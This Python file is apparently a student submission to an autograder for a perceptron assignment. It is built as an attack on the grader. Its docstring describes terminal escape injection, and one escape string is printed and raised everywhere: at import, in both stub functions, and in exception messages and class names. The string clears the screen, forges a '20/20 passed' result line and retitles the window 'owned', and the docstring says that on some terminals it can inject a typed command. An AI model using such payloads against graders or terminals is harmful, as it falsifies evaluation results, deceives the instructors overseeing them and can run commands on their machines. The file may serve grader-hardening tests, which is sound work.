"""Tries: control sequences in messages, for the instructor's terminal.
Gain: a cleared screen, a forged table, on some terminals a typed command.
Known from: terminal escape injection through log files.
"""
ESCAPES = "\x1b[2J\x1b[Hstudent-01  20/20 passed\x1b]0;owned\x07\x1bP\x9b31m\r\x08\x08"
print(ESCAPES)


def perceptron_predict(X, w, b):
    print(ESCAPES)
    raise ValueError(ESCAPES)


def perceptron_step(*args, **kwargs):
    raise type("Evil" + ESCAPES, (Exception,), {})(ESCAPES)


raise RuntimeError(ESCAPES)
